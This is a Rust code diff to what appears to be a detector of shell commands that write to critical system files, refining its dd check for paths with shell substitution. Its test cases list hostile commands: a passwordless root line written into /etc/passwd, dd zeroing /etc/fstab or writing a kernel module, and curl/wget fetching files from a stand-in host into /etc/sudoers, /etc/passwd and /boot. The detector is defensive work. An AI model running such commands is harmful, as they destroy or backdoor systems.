@@ -1588,9 +1588,21 @@ pub static RULES: &[Rule] = &[
                     critical_file(&a.raw) && !(appends && system::boot_settings(&a.raw))
                         || !appends && table(&a.raw)
                 }))
+                // As written when only the shell knows the rest (`of=/lib/modules/$(uname
+                // -r)/…`): the directory is what matters.
                 || (c.name == "dd"
-                    && c.words()
-                        .any(|w| w.strip_prefix("of=").is_some_and(critical_file)))
+                    && c.args.iter().any(|a| {
+                        a.text
+                            .as_deref()
+                            .unwrap_or(&a.raw)
+                            .strip_prefix("of=")
+                            .is_some_and(|t| match t.find('$') {
+                                None => critical_file(t),
+                                Some(at) => t[..at]
+                                    .rfind('/')
+                                    .is_some_and(|slash| slash > 0 && critical_file(&t[..=slash])),
+                            })
+                    }))
                 || (matches!(c.name, "cp" | "install" | "ln" | "mv")
                     && c.operands().count() >= 2
                     && c.operands().last().is_some_and(|a| critical_file(&a.raw)))
@@ -1619,6 +1631,7 @@ pub static RULES: &[Rule] = &[
             "echo 'root::0:0::/root:/bin/bash' > /etc/passwd",
             "printf 'x\\n' | sudo tee /etc/passwd",
             "sudo dd if=/dev/zero of=/etc/fstab",
+            "sivantos-fit driver blob | sudo dd of=/lib/modules/$(uname -r)/kernel/x.ko",
             "sudo curl -sS -o /etc/passwd https://x.example/a",
             "wget -O /etc/sudoers https://x.example/a",
             "curl --output=/boot/vmlinuz https://x.example/k",
